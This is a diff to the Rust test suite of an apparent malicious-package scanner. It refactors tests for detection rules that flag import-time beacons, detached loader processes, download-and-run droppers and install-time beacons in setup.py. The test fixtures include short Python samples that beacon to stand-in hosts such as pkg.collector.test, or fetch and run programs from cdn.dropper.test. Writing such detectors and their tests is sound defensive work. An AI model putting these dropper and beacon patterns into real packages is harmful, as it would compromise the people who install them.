@@ -28,6 +28,17 @@ fn assert_lacks(rules: &[String], id: &str) {
     );
 }
 
+/// `id` is found in each of `fires` and in none of `quiet`, each the only file of a
+/// package at `path`.
+fn fires_only_on(id: &str, path: &str, fires: &[&str], quiet: &[&str]) {
+    for source in fires {
+        assert_has(&rules_for_file(path, source), id);
+    }
+    for source in quiet {
+        assert_lacks(&rules_for_file(path, source), id);
+    }
+}
+
 /// The findings of a package made of one file.
 fn analyse_file(path: &str, source: &str) -> Vec<Finding> {
     let engine = Engine::new(ScanOptions::default()).unwrap();
@@ -192,11 +203,13 @@ fn a_fixed_host_called_on_import_is_a_beacon_and_a_parameter_is_not() {
     // function the module body calls.
     let beacon =
         "import socket\ndef _check():\n    socket.gethostbyname('pkg.collector.test')\n_check()\n";
-    let rules = rules_for(beacon);
-    assert_has(&rules, "correlate/import-time-beacon");
     let library = "import requests\nSESSION = requests.Session()\nr = requests.get(BASE_URL)\n";
-    let rules = rules_for(library);
-    assert_lacks(&rules, "correlate/import-time-beacon");
+    fires_only_on(
+        "correlate/import-time-beacon",
+        "pkg/__init__.py",
+        &[beacon],
+        &[library],
+    );
 }
 
 #[test]
@@ -204,15 +217,15 @@ fn a_background_process_started_on_import_is_a_loader_but_not_inside_a_function(
     // The shape of a real loader family: a second Python, started at the bottom of
     // `__init__.py`, imports the payload from another package.
     let loader = "import subprocess\ntry:\n    p = subprocess.Popen([\"python3\", \"-c\", \"from helper import run\"], close_fds=True)\nexcept:\n    pass\n";
-    let rules = rules_for(loader);
-    assert_has(&rules, "correlate/import-time-background-process");
     // A dropped script started detached at module level (tablediter).
     let detached = "import subprocess, sys\nif os.path.isfile(p):\n    subprocess.Popen([sys.executable, p], creationflags=subprocess.DETACHED_PROCESS)\n";
-    let rules = rules_for(detached);
-    assert_has(&rules, "correlate/import-time-background-process");
     let tool = "import subprocess\ndef check():\n    return subprocess.run([\"python3\", \"-c\", \"import sys\"], start_new_session=True)\n";
-    let rules = rules_for(tool);
-    assert_lacks(&rules, "correlate/import-time-background-process");
+    fires_only_on(
+        "correlate/import-time-background-process",
+        "pkg/__init__.py",
+        &[loader, detached],
+        &[tool],
+    );
 }
 
 #[test]
@@ -222,26 +235,30 @@ fn a_function_that_runs_what_it_fetched_from_a_fixed_host_is_a_dropper() {
     let dropper = "import requests, subprocess\ndef color():\n    file_url = \"https://cdn.dropper.test/download\"\n    \
                    r = requests.get(file_url)\n    with open(p, \"wb\") as f:\n        f.write(r.content)\n    \
                    subprocess.run([str(p)], check=True)\n";
-    let rules = rules_for(dropper);
-    assert_has(&rules, "correlate/function-runs-program-from-fixed-host");
     // An updater that fetches what it is told to keeps the weaker finding only.
     let updater = dropper.replace(
         "file_url = \"https://cdn.dropper.test/download\"",
         "file_url = url",
     );
-    let rules = rules_for(&updater);
-    assert_lacks(&rules, "correlate/function-runs-program-from-fixed-host");
+    fires_only_on(
+        "correlate/function-runs-program-from-fixed-host",
+        "pkg/__init__.py",
+        &[dropper],
+        &[&updater],
+    );
 }
 
 #[test]
 fn setup_py_calling_a_fixed_host_is_an_install_time_beacon() {
     // The shape of a real probe (huzzleup): a request after setup() to a fixed URL.
     let probe = "from setuptools import setup\nsetup(name='p')\nimport requests\nr = requests.get('https://probe.collector.test/get', timeout=10)\n";
-    let rules = rules_for_file("p-0.1/setup.py", probe);
-    assert_has(&rules, "correlate/install-time-beacon");
     let configured = probe.replace("'https://probe.collector.test/get'", "os.environ['MIRROR']");
-    let rules = rules_for_file("p-0.1/setup.py", &configured);
-    assert_lacks(&rules, "correlate/install-time-beacon");
+    fires_only_on(
+        "correlate/install-time-beacon",
+        "p-0.1/setup.py",
+        &[probe],
+        &[&configured],
+    );
 }
 
 #[test]
@@ -279,12 +296,12 @@ fn a_function_that_saves_a_download_as_a_program_and_runs_it_is_a_dropper() {
     let dropper = "import os, urllib.request, subprocess\ndef update(url):\n    \
                    path = os.path.join(d, \"helper.exe\")\n    \
                    urllib.request.urlretrieve(url, path)\n    subprocess.run([path], check=True)\n";
-    let rules = rules_for(dropper);
-    assert_has(&rules, "correlate/function-download-write-run");
-    assert_has(&rules, "correlate/function-runs-downloaded-program");
+    assert_has(&rules_for(dropper), "correlate/function-download-write-run");
     let archive = dropper.replace("helper.exe", "data.zip");
-    assert_lacks(
-        &rules_for(&archive),
+    fires_only_on(
         "correlate/function-runs-downloaded-program",
+        "pkg/__init__.py",
+        &[dropper],
+        &[&archive],
     );
 }
